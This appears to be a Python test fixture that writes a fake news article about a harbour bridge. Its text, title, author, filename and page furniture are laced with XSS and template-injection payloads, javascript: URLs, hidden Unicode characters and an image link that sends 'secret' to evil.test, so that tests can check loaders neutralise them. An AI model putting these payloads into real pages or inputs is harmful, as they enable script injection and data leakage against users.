"""Articles that try everything to be more than text, as files: for tests that nothing comes of it.

Every payload that runs sets `window.hacked`; every one that is fetched asks for `evil.test`.
"""

import json
from pathlib import Path

OUTLET = "Harbour Gazette<script>window.hacked=11</script>"
TITLE = '<img src="http://evil.test/t.png" onerror=window.hacked=13> {{7*7}} The bridge [1]'
AUTHOR = "<script>window.hacked=14</script> Ada Quill"
FILE = "<svg onload=window.hacked=15> ${window.hacked=16}.txt"

SENTENCES = (
    "The harbour bridge opened on 3 May 2024 <script>window.hacked=1</script> with a speech.",
    'The harbour bridge cost 40 million crowns <img src="http://evil.test/x.png" '
    'onerror="window.hacked=2"> in the end.',
    "The harbour bridge is 310 metres long ![pixel](http://evil.test/y.png?q=secret) [1] [2].",
    "The harbour bridge was named after the pilot Ida Marsh ${window.hacked=3} {{7*7}} <%= 1 %>.",
    'The harbour bridge carries <svg><a href="javascript:window.hacked=4"><text y="20">two '
    "lanes</text></a></svg> and a footpath.",
    "The harbour bridge is lit at night by $$\\href{javascript:window.hacked=5}{x}$$ lamps "
    "```mermaid graph TD; A-->B; click A href 'http://evil.test/m'``` of glass.",
    "The harbour bridge was designed by [Lena Orr](javascript:window.hacked=6) of "
    '<iframe srcdoc="<script>parent.window.hacked=7</script>"></iframe> Velmora.',
)
"""Sentences as they stand in an article; each is to be read as it is written here."""

HIDDEN = (
    "The harbour bridge toll is 2\u200b0 cro\u00adwns, not \u202e500\u202c, the coun\u2060cil said."
)
SEEN = "The harbour bridge toll is 20 crowns, not 500, the council said."
"""The same sentence without what cannot be seen."""

FURNITURE = (
    "Photo: <img src=http://evil.test/f.png onerror=window.hacked=8> R. Calloway",
    "Sign up for our newsletter ${window.hacked=9} <script>window.hacked=10</script> and read.",
)
"""Lines that cleaning takes out; the raw page shows them."""


def write(folder: Path) -> list[Path]:
    """Write the articles as files that the loaders read, and return them."""
    body = "\n\n".join(SENTENCES[:4])
    page = folder / FILE
    page.write_text("\n".join((*FURNITURE, *SENTENCES[4:], HIDDEN)), "utf-8")
    lines = folder / "nasty.jsonl"
    given = {
        "text": body,
        "title": TITLE,
        "outlet": OUTLET,
        "authors": [AUTHOR],
        "published_at": "2024-05-04",
        "url": "javascript:window.hacked=17",
    }
    lines.write_text(json.dumps(given) + "\n", "utf-8")
    return [page, lines]
